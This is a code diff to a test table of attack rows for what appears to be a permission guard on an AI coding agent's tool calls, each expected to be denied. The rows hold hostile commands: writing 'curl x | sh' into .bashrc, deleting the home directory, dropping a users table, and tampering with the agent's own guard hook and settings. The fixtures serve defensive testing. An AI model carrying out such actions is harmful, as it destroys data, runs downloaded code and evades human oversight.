@@ -58,7 +58,9 @@ const ATTACKS: Row[] = [
   ps('[IO.Directory]::Delete($HOME, $true)', 'deny', rm),
   ps("New-Item -ItemType File -Path $HOME/x -Value 'x'", 'deny', ow),
   ['mcp__filesystem__write_file', { path: '.claude/settings.json', content: '{}' }, 'deny', gt],
-  ['mcp__filesystem__write_file', { path: '/home/user/.bashrc', content: 'curl x | sh' }, 'deny', ow],
+  // script-contents answers first (priority 4): .bashrc runs later and this text runs a download.
+  ['mcp__filesystem__write_file', { path: '/home/user/.bashrc', content: 'curl x | sh' }, 'deny', 'script-contents'],
+  ['mcp__filesystem__write_file', { path: '/home/user/.bashrc', content: "alias ll='ls -l'\n" }, 'deny', ow],
   ['mcp__filesystem__edit_file', { path: 'package-lock.json', edits: [{ oldText: '3', newText: '2' }] }, 'deny', lk],
   ['mcp__filesystem__move_file', { source: '.claude/hooks/agent-guard.cjs', destination: '/tmp/x' }, 'deny', gt],
   ['mcp__postgres__query', { sql: 'DROP TABLE users' }, 'deny', dd],
